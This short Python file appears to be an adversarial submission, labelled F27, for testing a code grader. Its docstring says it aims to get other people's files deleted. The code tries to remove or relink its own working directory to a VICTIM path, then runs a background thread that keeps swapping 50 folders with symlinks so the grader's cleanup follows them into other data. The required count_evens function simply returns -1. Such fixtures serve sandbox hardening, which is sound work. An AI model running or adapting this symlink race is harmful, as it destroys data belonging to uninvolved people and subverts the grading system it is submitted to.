"""F27: replaces its own folder by a link to other people's files, for the grader to clean up there."""

# %% count_evens
import os, shutil

here = os.getcwd()
for way in (
    lambda: os.rmdir(here),
    lambda: shutil.rmtree(here),
    lambda: os.symlink(VICTIM, here),
    lambda: os.rename("x", here),
):
    try:
        way()
    except OSError as error:
        print(error)
for number in range(50):
    os.makedirs(f"{number}/inner", exist_ok=True)

import threading


def swap():
    while True:
        for number in range(50):
            try:
                os.rename(f"{number}/inner", f"{number}/was")
                os.symlink(VICTIM, f"{number}/inner")
                os.unlink(f"{number}/inner")
                os.rename(f"{number}/was", f"{number}/inner")
            except OSError:
                pass


threading.Thread(target=swap, daemon=True).start()


def count_evens(numbers):
    return -1
